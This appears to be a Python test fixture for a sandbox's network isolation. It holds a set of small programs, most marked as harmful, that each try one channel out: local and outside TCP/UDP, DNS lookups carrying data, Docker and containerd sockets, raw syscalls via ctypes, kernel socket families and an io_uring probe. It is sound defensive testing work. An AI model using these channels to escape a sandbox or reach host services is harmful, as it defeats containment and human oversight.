"""Programs that talk to someone: on this machine or beyond it. Addresses beyond it are of the ranges reserved for examples."""

PROGRAMS = r"""
#: tcp-local [harm] connects to a service of this machine
import socket
def ENTRY(*args, **kwargs):
    for host in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3"):
        try:
            with socket.create_connection((host, CANARY_PORT), timeout=0.2) as s: s.sendall(b"hello")
        except OSError: pass
    return WRONG

#: tcp-ipv6 [harm] the same with IPv6, also mapped
import socket
def ENTRY(*args, **kwargs):
    for host in ("::1", "::ffff:127.0.0.1"):
        try:
            with socket.socket(socket.AF_INET6) as s:
                s.settimeout(0.2)
                s.connect((host, CANARY_PORT))
        except OSError: pass
    return WRONG

#: tcp-nonblocking [harm] connects without waiting, and with data in the first packet
import select, socket
def ENTRY(*args, **kwargs):
    try:
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("127.0.0.1", CANARY_PORT))
        select.select([], [s], [], 0.2)
        t = socket.socket()
        t.sendto(b"fast", 0x20000000, ("127.0.0.1", CANARY_PORT))
    except OSError: pass
    return WRONG

#: tcp-outside [harm] connects to another machine
import socket
def ENTRY(*args, **kwargs):
    for host in ("192.0.2.1", "198.51.100.7", "2001:db8::1"):
        try: socket.create_connection((host, 80), timeout=0.1).close()
        except OSError: pass
    return WRONG

#: udp [harm] sends a packet, for which no connection is needed
import socket
def ENTRY(*args, **kwargs):
    for host in ("127.0.0.1", "192.0.2.1", "255.255.255.255", "224.0.0.1"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                s.sendto(b"hello", (host, CANARY_PORT))
        except OSError: pass
    return WRONG

#: dns [harm] carries data out in the name that is looked up
import socket, threading
def ENTRY(*args, **kwargs):
    def look():
        try: socket.getaddrinfo("secret.example.invalid", 80)
        except OSError: pass
    thread = threading.Thread(target=look, daemon=True)
    thread.start()
    thread.join(0.3)
    return WRONG

#: unix-socket [harm] sockets in the file system: a service of others, docker's, systemd's
import socket
def ENTRY(*args, **kwargs):
    for path in ("CANARY_DIR/socket", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/dev/log"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.settimeout(0.2)
                    s.connect(path)
            except OSError: pass
    return WRONG

#: abstract-socket [harm] sockets without a file, which no file permission guards
import socket
def ENTRY(*args, **kwargs):
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(0.2)
            s.connect("\0CANARY_ABSTRACT")
            s.sendall(b"hello")
    except OSError: pass
    return WRONG

#: http [harm] the standard library's clients
import http.client, urllib.request
def ENTRY(*args, **kwargs):
    try: http.client.HTTPConnection("127.0.0.1", CANARY_PORT, timeout=0.2).request("GET", "/")
    except OSError: pass
    for url in ("http://127.0.0.1:CANARY_PORT/", "http://192.0.2.1/", "ftp://127.0.0.1:CANARY_PORT/"):
        try: urllib.request.urlopen(url, timeout=0.1).read()
        except OSError: pass
    return WRONG

#: asyncio-connection [harm] an event loop's connection
import asyncio
def ENTRY(*args, **kwargs):
    async def go():
        _, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", CANARY_PORT), 0.2)
        writer.close()
    try: asyncio.run(go())
    except (OSError, TimeoutError): pass
    return WRONG

#: socket-by-c [harm] sockets by system calls, past every Python function
import ctypes, struct
def ENTRY(*args, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(41, 2, 1, 0)
    if fd >= 0: libc.syscall(42, fd, struct.pack("<H", 2) + struct.pack(">H", CANARY_PORT) + bytes([127, 0, 0, 1]) + bytes(8), 16)
    fd = libc.socket(2, 2, 0)
    if fd >= 0: libc.sendto(fd, b"hello", 5, 0, struct.pack("<H", 2) + struct.pack(">H", CANARY_PORT) + bytes([127, 0, 0, 1]) + bytes(8), 16)
    return WRONG

#: raw-and-kernel [harm] raw packets, netlink, vsock, packet and key sockets
import socket
def ENTRY(*args, **kwargs):
    for family, kind, protocol in ((2, 3, 1), (16, 3, 0), (17, 3, 0x300), (40, 1, 0), (38, 5, 0), (2, 1, 262), (2, 5, 132)):
        try:
            s = socket.socket(family, kind, protocol)
            s.settimeout(0.1)
            s.connect((2, CANARY_PORT) if family == 40 else ("127.0.0.1", CANARY_PORT))
        except (OSError, TypeError): pass
    return WRONG

#: io-uring opens and connects by io_uring, which filters of system calls do not see
import ctypes
def ENTRY(*args, **kwargs):
    ring = ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(120))
    return "io_uring can be used" if ring >= 0 else WRONG

#: listen [harm] waits for someone to call
import socket
def ENTRY(*args, **kwargs):
    try:
        s = socket.socket()
        s.bind(("0.0.0.0", CANARY_PORT + 1 if CANARY_PORT < 65000 else 0))
        s.listen()
        s.settimeout(0.1)
        s.accept()
    except OSError: pass
    return WRONG

#: network-libraries [harm] network libraries, if there are any
def ENTRY(*args, **kwargs):
    for name in ("requests", "httpx", "aiohttp", "urllib3"):
        try:
            module = __import__(name)
            module.get("http://127.0.0.1:CANARY_PORT/", timeout=0.2)
        except Exception: pass
    return WRONG
"""
